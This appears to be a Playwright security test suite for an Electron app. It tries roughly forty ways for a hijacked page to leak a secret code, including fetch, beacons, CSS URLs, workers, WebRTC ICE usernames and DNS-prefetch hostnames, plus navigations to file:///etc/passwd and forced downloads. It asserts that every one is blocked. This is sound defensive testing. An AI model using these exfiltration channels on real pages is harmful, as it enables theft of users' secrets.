// Every way in which a compromised page could send a code out of the window, with real listeners.
import { createSocket } from 'node:dgram'
import { readdir, readFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { ElectronApplication, Page } from '@playwright/test'
import { demoPerson } from '../../tools/drive/steps.ts'
import { startListeners, type Listeners } from '../support/listeners.ts'
import { expect, test } from './fixtures.ts'

/** What would be stolen. */
const CODE = '314159'

/** The time a page has to send something; far more than a packet on this computer takes. */
const LONG_ENOUGH_MS = 5_000

type Way = (
  page: Page,
  target: { readonly base: string; readonly listeners: Listeners },
) => Promise<void>

/** Runs in the page without awaiting what it starts. */
const begin = async (page: Page, script: string) =>
  void (await page.evaluate(`void (() => { try { ${script} } catch {} })()`))

/** A way as the page would write it; `BASE` stands for the address of the listener, with the code in it. */
const byScript =
  (script: string): Way =>
  (page, { base }) =>
    begin(page, script.replaceAll('BASE', `${base}/${CODE}`))

/** An element that is added to the page. */
const byElement = (html: string): Way =>
  byScript(
    `const holder = document.createElement('div'); holder.innerHTML = ${JSON.stringify(html)}; document.body.append(holder); for (const link of holder.querySelectorAll('link,meta')) document.head.append(link)`,
  )

const iceServers: Way = async (page, { listeners }) => {
  const { addresses, udpPort, tcpPort } = listeners
  const servers = addresses.flatMap((address) => [
    { urls: `stun:${address}:${udpPort}` },
    { urls: `turn:${address}:${udpPort}?transport=udp`, username: CODE, credential: 'x' },
    { urls: `turn:${address}:${tcpPort}?transport=tcp`, username: CODE, credential: 'x' },
    { urls: `turns:${address}:${tcpPort}?transport=tcp`, username: CODE, credential: 'x' },
  ])
  await begin(
    page,
    `const peer = new RTCPeerConnection({ iceServers: ${JSON.stringify(servers)} });
     peer.createDataChannel('out');
     peer.createOffer().then((offer) => peer.setLocalDescription(offer));
     globalThis.kept = [...(globalThis.kept ?? []), peer]`,
  )
}

/** Names the listeners as the other end of a call; the code is in the user name that every check carries. */
const icePeers: Way = async (page, { listeners }) => {
  const { addresses, udpPort, tcpPort } = listeners
  const candidates = addresses.flatMap((address) => [
    `candidate:1 1 udp 2122260223 ${address} ${udpPort} typ host`,
    `candidate:2 1 tcp 1518280447 ${address} ${tcpPort} typ host tcptype passive`,
  ])
  await begin(
    page,
    `(async () => {
       const near = new RTCPeerConnection(), far = new RTCPeerConnection();
       near.createDataChannel('out');
       await near.setLocalDescription(await near.createOffer());
       await far.setRemoteDescription(near.localDescription);
       const answer = await far.createAnswer();
       const sdp = answer.sdp.replace(/a=ice-ufrag:.*/g, 'a=ice-ufrag:${CODE}');
       await near.setRemoteDescription({ type: 'answer', sdp });
       for (const candidate of ${JSON.stringify(candidates)})
         await near.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 }).catch(() => {});
       globalThis.kept = [...(globalThis.kept ?? []), near, far];
     })().catch(() => {})`,
  )
}

const ways: Readonly<Record<string, Way>> = {
  fetch: byScript(`fetch('BASE', { mode: 'no-cors', keepalive: true }).catch(() => {})`),
  'an XMLHttpRequest': byScript(`const r = new XMLHttpRequest(); r.open('GET', 'BASE'); r.send()`),
  'a WebSocket': byScript(`new WebSocket('BASE'.replace('http', 'ws'))`),
  'an EventSource': byScript(`new EventSource('BASE')`),
  'a WebTransport': byScript(`new WebTransport('BASE'.replace('http', 'https'))`),
  'a beacon': byScript(`navigator.sendBeacon('BASE', 'x')`),
  'a picture': byScript(`new Image().src = 'BASE'`),
  'a picture of a style': byElement(
    `<p style="background: url(BASE)">x</p><style>p { background: url(BASE) }</style>`,
  ),
  'a style sheet of the document': byScript(
    `const sheet = new CSSStyleSheet(); sheet.replaceSync('body { background: url(BASE) !important }'); document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]`,
  ),
  'a style sheet': byElement(`<link rel="stylesheet" href="BASE">`),
  'a font': byScript(`new FontFace('out', 'url(BASE)').load().catch(() => {})`),
  'a script': byScript(
    `const s = document.createElement('script'); s.src = 'BASE'; document.head.append(s)`,
  ),
  'a module': byScript(`import('BASE').catch(() => {})`),
  'a prefetch': byElement(`<link rel="prefetch" href="BASE">`),
  'a preload': byElement(
    `<link rel="preload" as="image" href="BASE"><link rel="modulepreload" href="BASE">`,
  ),
  'a preconnection': byElement(`<link rel="preconnect" href="BASE">`),
  'a prerendering': byScript(
    `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['BASE'] }], prerender: [{ source: 'list', urls: ['BASE'] }] }); document.head.append(s)`,
  ),
  'an icon and a manifest': byElement(
    `<link rel="icon" href="BASE"><link rel="manifest" href="BASE">`,
  ),
  'a video, a sound and subtitles': byElement(
    `<video src="BASE" autoplay></video><audio src="BASE" autoplay></audio><video><track default src="BASE"></video>`,
  ),
  'an object and an embedded page': byElement(`<object data="BASE"></object><embed src="BASE">`),
  'a frame': byElement(`<iframe src="BASE"></iframe>`),
  'a frame with a page of its own': byElement(
    `<iframe srcdoc="<img src='BASE'><script src='BASE'></script><meta http-equiv=refresh content='0;url=BASE'>"></iframe>`,
  ),
  'a frame that navigates': byScript(
    `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location.href = 'BASE'`,
  ),
  'a form': byScript(
    `const f = document.createElement('form'); f.action = 'BASE'; f.method = 'post'; document.body.append(f); f.submit()`,
  ),
  'a ping': byScript(
    `const a = document.createElement('a'); a.href = '#'; a.ping = 'BASE'; document.body.append(a); a.click()`,
  ),
  'a link': byScript(
    `const a = document.createElement('a'); a.href = 'BASE'; document.body.append(a); a.click()`,
  ),
  'a link in a new window': byScript(
    `const a = document.createElement('a'); a.href = 'BASE'; a.target = '_blank'; document.body.append(a); a.click()`,
  ),
  'a download': byScript(
    `const a = document.createElement('a'); a.href = 'BASE'; a.download = 'x'; document.body.append(a); a.click()`,
  ),
  'another window': byScript(`window.open('BASE')`),
  'another window, in its own words': byScript(
    `const w = window.open('about:blank'); w.document.write('<img src="BASE">')`,
  ),
  'a refresh': byElement(`<meta http-equiv="refresh" content="0;url=BASE">`),
  'a navigation': byScript(`location.href = 'BASE'`),
  'a navigation without history': byScript(`location.replace('BASE')`),
  'a program of the system': byScript(`location.href = 'mailto:x@example.com?subject=${CODE}'`),
  'a worker': byScript(
    `new Worker(URL.createObjectURL(new Blob(["fetch('BASE',{mode:'no-cors'}); importScripts('BASE')"])))`,
  ),
  'a shared worker': byScript(
    `new SharedWorker('data:text/javascript,' + encodeURIComponent("fetch('BASE',{mode:'no-cors'})"))`,
  ),
  'a service worker': byScript(
    `navigator.serviceWorker.register('app://sync/app/sw.js').catch(() => {})`,
  ),
  'a worklet': byScript(
    `CSS.paintWorklet?.addModule('BASE').catch(() => {}); new AudioContext().audioWorklet.addModule('BASE').catch(() => {})`,
  ),
  'the name of a host': byScript(
    `for (const rel of ['dns-prefetch', 'preconnect', 'prefetch']) { const l = document.createElement('link'); l.rel = rel; l.href = 'https://' + rel + '-${CODE}.example/'; document.head.append(l) }`,
  ),
  'WebRTC, by its servers': iceServers,
  'WebRTC, by a call': icePeers,
}

const PAGE = 'app://sync/app/index.html Sync'

/** The address and the title of each window; Chromium's own pages use their address as the title. */
const shown = (electron: ElectronApplication) =>
  electron.evaluate(({ BrowserWindow }) =>
    BrowserWindow.getAllWindows().map(({ webContents }) =>
      [webContents.getURL().replace(/#$/, ''), webContents.getTitle()].join(' '),
    ),
  )

/** The listeners do hear: what they do not hear later was not sent. */
async function provenListeners(): Promise<Listeners> {
  const listeners = await startListeners()
  await fetch(`http://127.0.0.1:${listeners.tcpPort}/proof`, {
    signal: AbortSignal.timeout(500),
  }).catch(() => undefined)
  const udp = createSocket('udp4')
  await new Promise<void>((resolve) =>
    udp.send('proof', listeners.udpPort, '127.0.0.1', () => resolve()),
  )
  udp.close()
  await expect.poll(() => listeners.heard.filter((one) => one.includes('proof'))).toHaveLength(2)
  return listeners
}

test('a page that was taken over reaches no listener, whatever way it tries', async ({
  launch,
  computer,
}) => {
  const listeners = await provenListeners()
  const heardBefore = listeners.heard.length
  const { sync, electron } = await launch()
  await demoPerson(sync, 'Ana Braga')
  const netLog = join(computer, 'net-log.json')
  await electron.evaluate(
    ({ session }, path) => session.defaultSession.netLog.startLogging(path),
    netLog,
  )
  const host = listeners.addresses.find((address) => address !== '127.0.0.1') ?? '127.0.0.1'
  for (const [name, way] of Object.entries(ways)) {
    const base = `http://${host}:${listeners.tcpPort}/${encodeURIComponent(name)}`
    await way(sync, { base, listeners })
  }
  await sync.waitForTimeout(LONG_ENOUGH_MS)
  await electron.evaluate(({ session }) => session.defaultSession.netLog.stopLogging())
  expect(listeners.heard.slice(heardBefore)).toEqual([])
  // A DNS query is a way out too: the code would be in the name.
  const questions = (await readFile(netLog, 'utf8')).match(/"(?:hostname|qname)":"[^"]*"/g) ?? []
  expect(questions).toEqual([])
  expect(await shown(electron)).toEqual([PAGE])
  // Behind the page's policy there is another wall: this network resolves no addresses at all.
  const reached = await electron.evaluate(
    ({ net }, addresses) =>
      Promise.all(
        addresses.map((address) =>
          net.fetch(address).then(
            () => true,
            () => false,
          ),
        ),
      ),
    [`http://127.0.0.1:${listeners.tcpPort}`, `http://localhost:${listeners.tcpPort}`],
  )
  expect(reached).toEqual([false, false])
  expect(listeners.heard.slice(heardBefore)).toEqual([])
  await listeners.stop()
})

test('a page that was taken over goes nowhere, whatever the address', async ({ launch }) => {
  const { sync, electron, log } = await launch()
  await demoPerson(sync, 'Ana Braga')
  const addresses = [
    "'about:blank'",
    "'about:srcdoc'",
    "URL.createObjectURL(new Blob(['<p>another page</p>'], { type: 'text/html' }))",
    "'data:text/html,<p>another page</p>'",
    "'app://sync/settings/index.html'",
    "'app://sync/demo-inbox/index.html'",
    "'app://evil/app/index.html'",
    "'file:///etc/passwd'",
    "'chrome://gpu'",
    "'devtools://devtools/bundled/inspector.html'",
    "'view-source:app://sync/app/index.html'",
    "'javascript:document.write(1)'",
  ]
  for (const address of addresses) {
    for (const go of [`location.href = ${address}`, `window.open(${address}, '_self')`]) {
      // Not awaited: a script's promise does not settle while its navigation is being refused.
      await electron.evaluate(({ BrowserWindow }, script) => {
        const contents = BrowserWindow.getAllWindows()[0]?.webContents
        void contents?.executeJavaScript(`try { ${script} } catch {}; null`).catch(() => undefined)
      }, go)
      await sync.waitForTimeout(200)
    }
  }
  await expect.poll(() => shown(electron)).toEqual([PAGE])
  expect(log()).toContain('page left its address')
  expect(log()).toContain('navigation refused')
})

test('a page that was taken over writes no file', async ({ launch, computer }) => {
  const { sync, electron, log } = await launch({ env: { HOME: computer } })
  await demoPerson(sync, 'Ana Braga')
  await electron.evaluate(({ app }, folder) => app.setPath('downloads', folder), computer)
  for (const address of [
    "URL.createObjectURL(new Blob(['x']))",
    "'data:application/octet-stream,x'",
    "'app://sync/app/index.html'",
  ]) {
    await begin(
      sync,
      `const a = document.createElement('a'); a.href = ${address}; a.download = 'out.txt'; document.body.append(a); a.click()`,
    )
  }
  await expect.poll(() => log().match(/download refused/g)?.length).toBe(3)
  const files = await readdir(computer, { recursive: true })
  expect(files.filter((name) => /out\.txt|crdownload/.test(name))).toEqual([])
  const pickers = await sync.evaluate(() =>
    ['showSaveFilePicker', 'showOpenFilePicker', 'showDirectoryPicker'].filter(
      (name) => name in globalThis,
    ),
  )
  expect(pickers).toEqual([])
})
